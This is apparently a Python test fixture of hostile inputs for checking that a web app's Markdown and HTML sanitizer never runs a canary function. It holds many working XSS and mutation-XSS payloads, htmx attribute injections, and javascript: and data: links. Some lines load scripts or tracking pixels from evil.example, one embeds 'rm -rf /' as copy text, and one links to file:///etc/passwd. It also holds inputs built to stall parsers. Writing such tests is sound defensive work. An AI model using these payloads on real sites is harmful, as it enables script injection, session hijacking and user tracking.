"""Texts that mean harm, for every place where a stranger's text is shown.

Each one that runs calls `owned()`: a browser test defines that function, shows the texts and finds it never called.
`TEXTS` are answers in Markdown, by name; `huge()` are texts that cost; `NAMES` are for titles, models, files and
people; `ERROR_BODIES` are what a gateway may answer with.
"""

import base64

_SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="owned()"/>').decode()
_PAGE = base64.b64encode(b"<script>owned()</script>").decode()

TEXTS: dict[str, str] = {
    # Script
    "script": "<script>owned()</script>",
    "script in a paragraph": "Hello <script>owned()</script> world",
    "script with a source": '<script src="https://evil.example/x.js"></script>',
    "script unclosed": "<script>owned()",
    "script in capitals": "<ScRiPt >owned()</sCrIpT >",
    "script over two blocks": "<scr\n\nipt>owned()</script>",
    "script in a script": "<scr<script>ipt>owned()</scr</script>ipt>",
    "script in code": "```html\n<script>owned()</script>\n```\n\n`<script>owned()</script>`",
    "script in a fence's name": "```<script>owned()</script>\nx\n```",
    "script in a table": "| <script>owned()</script> | b |\n|---|---|\n| <img src=x onerror=owned()> | 2 |",
    "script in a heading": "# <script>owned()</script>",
    "script in a footnote": "a[^1]\n\n[^1]: <script>owned()</script>",
    "script in a footnote's name": 'a[^"><script>owned()</script>]\n\n[^"><script>owned()</script>]: note',
    "script as entities": "&lt;script&gt;owned()&lt;/script&gt; &#60;script&#62;owned()&#60;/script&#62;",
    # Attributes
    "onerror": "<img src=x onerror=owned()>",
    "onerror with a slash": "<img/src=x/onerror=owned()>",
    "onload in a body": "<body onload=owned()>",
    "onclick on a kept tag": '<b onclick="owned()" onmouseover="owned()">bold</b>',
    "ontoggle": "<details open ontoggle=owned()><summary>x</summary>y</details>",
    "onfocus": "<input autofocus onfocus=owned()>",
    "onanimationstart": "<kbd style='animation-name:spin' onanimationstart=owned()>x</kbd>",
    "style": '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    "style element": "<style>* { background: url(https://evil.example/x) }</style>",
    "class": '<b class="btn btn--primary dialog">x</b>',
    "id": '<b id="composer">x</b>\n\n<form id="thread"></form>',
    "names that hide the document's": "<img name=cookie><form name=body><input name=parentNode></form>",
    # Our own attributes
    "hx-get": '<b hx-get="/accounts/logout/" hx-trigger="load">x</b>',
    "hx-post in a div": '<div hx-post="/settings/people/" hx-trigger="load" hx-vals=\'{"a":1}\'>x</div>',
    "data-hx": '<kbd data-hx-get="/" data-hx-trigger="load" data-hx-on:load="owned()">x</kbd>',
    "hx-on": '<b hx-on:click="owned()" hx-on::load="owned()">x</b>',
    "hx-partial": '<hx-partial hx-target="body" hx-swap="innerHTML"><script>owned()</script></hx-partial>',
    "hx-ws": '<div hx-ws:connect="wss://evil.example/" hx-ws:send>x</div>',
    "data-copy": '<mark data-copy="#key" data-copy-text="rm -rf /" data-copy-url="/setup/">x</mark>',
    "data-url": '<a class="remote-image" data-url="javascript:owned()" href="/">x</a>',
    "data-part": 'x <code data-part="0"></code> $a$',
    "data-part in an attribute": "[x](https://a.example/ \"<code data-part='0'></code>\") $a$",
    "attributes of a heading": "# Title { #thread .btn onclick=owned() }",
    # Addresses
    "javascript link": "[x](javascript:owned())",
    "javascript link in capitals": "[x](JaVaScRiPt:owned())",
    "javascript link with a tab": (
        "[x](<java\tscript:owned()>) [y](java&Tab;script:owned()) [z](java&NewLine;script:owned())"
    ),
    "javascript link as entities": "[x](&#106;&#97;&#118;ascript:owned()) [y](&#x6A;avascript&colon;owned())",
    "javascript link with a control before": "[x](&#1;javascript:owned()) [y](<\x01javascript:owned()>)",
    "javascript link with spaces": "[x](<   javascript:owned()>)",
    "javascript in an autolink": "<javascript:owned()>",
    "javascript in a reference": "[x][r]\n\n[r]: javascript:owned()",
    "javascript in an image": "![x](javascript:owned())",
    "javascript in raw HTML": (
        '<a href="javascript:owned()">x</a> <form action="javascript:owned()"><button>y</button></form>'
    ),
    "vbscript and others": (
        "[a](vbscript:owned()) [b](file:///etc/passwd) [c](blob:x) [d](view-source:x) [e](about:blank)"
    ),
    "link with a quote": (
        '[x](https://a.example/"onmouseover="owned()) [y](https://a.example/ "t\\"onmouseover=\\"owned()")'
    ),
    "bare link with a quote": 'https://a.example/"onmouseover="owned() https://a.example/\'><script>owned()</script>',
    "link into our own site": (
        "[log out](/accounts/logout/) [x](//evil.example/) [y](\\\\evil.example) [z](?next=/) [id](#thread)"
    ),
    "link with a false host": "[x](https://gateway.example@evil.example/) [y](https:evil.example)",
    "data page": "[x](data:text/html,<script>owned()</script>) ![x](data:text/html;base64," + _PAGE + ")",
    "data SVG": "![x](data:image/svg+xml;base64," + _SVG + ") ![y](data:image/svg+xml,<svg onload=owned()>)",
    "data page that says it is a picture": "![x](data:image/png;base64," + _PAGE + ")",
    "data picture with an attribute": '![x](data:image/png;base64,iVBORw0KGgo="onerror="owned())',
    "image's text": (
        '![" onerror="owned()](https://a.example/x.png) ![<script>owned()</script>](https://a.example/x.png)'
    ),
    "image elsewhere": "![pixel](https://evil.example/pixel.png?who=you)",
    "image in a link": "[![x](https://evil.example/x.png)](javascript:owned())",
    "meta refresh": (
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'
    ),
    "link element": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "frames": '<iframe src="javascript:owned()"></iframe><iframe srcdoc="<script>owned()</script>"></iframe>',
    "objects": '<object data="data:text/html;base64,' + _PAGE + '"></object><embed src="javascript:owned()">',
    # SVG, MathML and how parsers differ
    "svg": "<svg onload=owned()><script>owned()</script></svg>",
    "svg animation": "<svg><animate attributeName=href values=javascript:owned() /><a id=x><rect/></a></svg>",
    "svg use": '<svg><use href="data:image/svg+xml;base64,' + _SVG + '#x"/></svg>',
    "math link": (
        '<math><mi xlink:href="javascript:owned()">x</mi><maction '
        'actiontype="statusline#javascript:owned()">y</maction></math>'
    ),
    "mutation by math": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=owned()&gt;">'
    ),
    "mutation by svg": '<svg></p><style><a id="</style><img src=1 onerror=owned()>">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=owned()>">',
    "mutation by template": (
        "<template><script>owned()</script></template><select><template shadowrootmode=open><img src onerror=owned()>"
    ),
    "mutation by title": '<title></p><img title="</title><img src onerror=owned()>">',
    "mutation by textarea": '<textarea></p><img title="</textarea><img src onerror=owned()>"></textarea>',
    "mutation by plaintext": "<plaintext><b>x</b>\n\nand more",
    "mutation by nested forms": (
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=owned() src>">'
    ),
    "mutation by CDATA": "<svg><![CDATA[</svg><img src onerror=owned()>]]>",
    "comment unclosed": "<!-- <script>owned()</script>\n\nand all that follows",
    "comment that ends oddly": "<!--><img src onerror=owned()>--> <!---!><img src onerror=owned()>",
    "conditional comment": "<!--[if IE]><script>owned()</script><![endif]-->",
    "processing instruction": "<?xml-stylesheet href='javascript:owned()'?><!DOCTYPE html [<!ENTITY x 'owned()'>]>",
    "closing our own elements": "</code></pre></div></article></main></body></html><script>owned()</script>",
    "kept tags crosswise": "<b><i>x</b>y</i> <sub><sup></sub> **a <b>b** c</b> </em></strong></p></li></ul>",
    "details over our elements": (
        "- <details>\n- </details><summary>\n\n> <summary><details>\n\n| <details> | b |\n|---|---|\n"
    ),
    # Formulas
    "formula with a link": r"$\href{javascript:owned()}{x}$ \(\url{javascript:owned()}\) $$\class{btn}{x}$$",
    "formula with HTML": r"$\text{<script>owned()</script>}$ $<img src=x onerror=owned()>$ \[\html{<b>}\]",
    "formula with attributes": (
        r"$\style{position:fixed}{x}$ $\htmlId{thread}{x}$ $\htmlData{copy=x}{y}$ "
        r'$\color{"onclick="owned()}x$'
    ),
    "formula that grows": r"$\def\a{\a\a}\a$ $\newcommand{\b}[1]{\b{#1#1}}\b{x}$",
    "formula across code": "`\\(` <script>owned()</script> `\\)` and $a `$` b$",
    "marks of formulas": (
        "\ufdd00\ufdd1 &#xFDD0;0&#xFDD1; $x$ [a](https://a.example/&#xFDD0;0&#xFDD1;) <b\ufdd00\ufdd1>"
    ),
    # Structure
    "nested fences": "````md\n```js\nowned()\n```\n````\n\n~~~\n```\n<script>owned()</script>\n~~~",
    "fence closed too early": "```html\n```<script>owned()</script>\n```\n<script>owned()</script>",
    "fence in a list in a quote": "> - ```html\n>   <script>owned()</script>\n>   ```\n> - <script>owned()</script>",
    "fence's name with quotes": '``` py" onmouseover="owned()\nx\n```',
    "HTML after indented code": "    <script>owned()</script>\n<script>owned()</script>",
    # Characters
    "nul and controls": "a\x00b <scr\x00ipt>owned()</scr\x00ipt> \x08\x0b\x0c\x1b[31m \x7f",
    "bidirectional": "\u202ebold\u202c \u2066x\u2069 [\u202egnp.exe](https://a.example/\u202egnp.exe) `\u202ecode`",
    "wide look-alikes": "＜script＞owned()＜/script＞ ﹤script﹥ \u2028<script>owned()</script>\u2029",
    "lone surrogates": "\ud800 <script>\udfff owned()</script> \ud83d\ude00",
    "byte order marks": "\ufeff<script>owned()</script>\ufffe\uffff",
    "utf-7": "+ADw-script+AD4-owned()+ADw-/script+AD4-",
    "template syntax": (
        "{{ owned() }} {% include 'x' %} ${owned()} <%= owned() %> {{constructor.constructor('owned()')()}}"
    ),
}

NAMES: tuple[str, ...] = (
    "<script>owned()</script>",
    '"><img src=x onerror=owned()>',
    "'><svg onload=owned()>",
    "javascript:owned()",
    "{{ owned() }}{% debug %}",
    '" hx-get="/accounts/logout/" hx-trigger="load',
    "\u202egnp.exe",
    "a\x00b\x1b[31m",
    "</title><script>owned()</script>",
    "`<b>` **x** [y](javascript:owned())",
    "x" * 5_000,
)

ERROR_BODIES: tuple[bytes, ...] = (
    b"<html><script>owned()</script><h1>502</h1></html>",
    b'{"error":{"message":"<img src=x onerror=owned()>","code":"\\"><script>owned()</script>"}}',
    b'{"error":{"message":"<div hx-get=/accounts/logout/ hx-trigger=load>","type":["x"],"param":{"a":1}}}',
    b'{"error":"javascript:owned()"}',
    b'{"error":{"message":"\\u202e\\u0000\\ud800"}}',
    b"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",
    b'data: {"error": "</script><script>owned()</script>"}\n\n',
)


def huge(n: int = 10_000) -> dict[str, str]:
    """Texts whose nesting or ambiguity takes a careless parser minutes."""
    markup = "> |> |- |1. |[|![|[](|[a](<b|[^a]|[x]: |*|**a |*a **b |_a*|~~|`|<|<b>|<a |<!--|<?|&|\\|#|$|$a |\\(|\\[x"
    units = [*markup.split("|"), ">", "|", "$$\n", "\\[\n", "\n", "\t", "\ud800"]
    texts = {f"{unit!r} again and again": unit * n for unit in units}
    texts["a list that steps in"] = "".join("  " * depth + "- a\n" for depth in range(min(n, 300)))
    texts["emphasis in emphasis"] = "*a " * n + "b*" * n
    texts["quotes and lists in turn"] = "> - " * n
    texts["tags in tags"] = "<sub>" * n + "x" + "</sub>" * n
    texts["details in details"] = "<details>\n\n" * (n // 10)
    texts["ticks of every length"] = " ".join("`" * length for length in range(300))
    texts["fences of every length"] = "\n".join("`" * length for length in range(3, 300))
    texts["a table of bars"] = "|" * n + "\n" + "|-" * n + "|\n" + "|" * n
    texts["a formula in a formula"] = "$" + "{" * n + "$ $" + "\\frac" * n + "$ $" + "\\left(" * n + "$"
    texts["references to each other"] = "".join(f"[{i}][{i + 1}] " for i in range(n)) + "\n\n[1]: https://a.example"
    texts["one long word"] = "a" * n * 10
    texts["one long line of code"] = "```python\n" + "('" * n + "\n```"
    texts["an address without end"] = "![x](data:image/png;base64," + "A" * n * 10
    return texts
